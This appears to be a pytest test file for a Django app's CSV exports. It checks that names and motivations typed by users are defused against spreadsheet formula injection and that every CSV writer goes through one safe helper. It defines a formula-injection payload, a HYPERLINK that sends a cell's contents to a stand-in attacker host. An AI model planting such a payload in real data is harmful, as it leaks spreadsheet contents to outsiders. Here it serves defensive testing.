"""Every CSV export writes text people typed so that no spreadsheet evaluates it."""

import csv
import io
import re
from pathlib import Path

import pytest

from core.csv_export import safe_cell
from tests.factories import (
    ApplicationFactory,
    RSVPFactory,
    SessionFactory,
    UserFactory,
    accepted_participant,
    program_with_sides,
)

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
# Each leading character that makes some spreadsheet read the cell as a formula.
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def _applications_csv(client, owner, program):
    client.force_login(owner)
    return _rows(client.get(f"/programs/{program.pk}/applications.csv"))


def _attendees_csv(client, owner, program):
    session = SessionFactory(program=program, confidentiality="open")
    for application in program.applications.filter(status="accepted"):
        RSVPFactory(session=session, participant=application.applicant)
    client.force_login(owner)
    return _rows(client.get(f"/sessions/{session.pk}/attendees.csv"))


@pytest.fixture
def program(org):
    return program_with_sides("North", "South", organization=org, capacity=4)


@pytest.mark.parametrize("lead", DANGEROUS)
def test_applications_csv_defuses_formulas_in_every_typed_field(client, alice, program, lead):
    value = lead + PAYLOAD
    applicant = UserFactory(display_name=value, legal_name=value)
    ApplicationFactory(program=program, side=program.sides.first(), applicant=applicant,
                       motivation=value)

    header, row = _applications_csv(client, alice, program)

    typed = [row[header.index(column)] for column in ("display name", "legal name",
                                                      "motivation")]
    assert typed == ["'" + value] * 3


@pytest.mark.parametrize("lead", DANGEROUS)
def test_attendees_csv_defuses_a_formula_display_name(client, alice, program, lead):
    accepted_participant(program, display_name=lead + PAYLOAD)

    header, row = _attendees_csv(client, alice, program)

    assert row[header.index("Display name")] == "'" + lead + PAYLOAD


@pytest.mark.parametrize("export", [_applications_csv, _attendees_csv])
def test_csv_exports_leave_ordinary_text_unchanged(client, alice, program, export):
    accepted_participant(program, display_name="Dana O'Neil, 3 = 3")

    header, row = export(client, alice, program)

    assert row[header.index("display name" if "display name" in header
                            else "Display name")] == "Dana O'Neil, 3 = 3"


@pytest.mark.parametrize(("value", "written"), [
    *[(lead + "1+1", "'" + lead + "1+1") for lead in DANGEROUS],
    ("1+1", "1+1"), ("", ""), (None, ""), (42, "42"), (-3, "'-3"),
])
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_every_csv_writer_in_the_project_is_the_safe_one():
    """A new export that writes CSV itself would bypass `safe_cell`."""
    writers = [
        path.relative_to(ROOT).as_posix()
        for directory in ("config", "core", "exchanges", "dialogues", "participants")
        for path in (ROOT / directory).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["core/csv_export.py"]
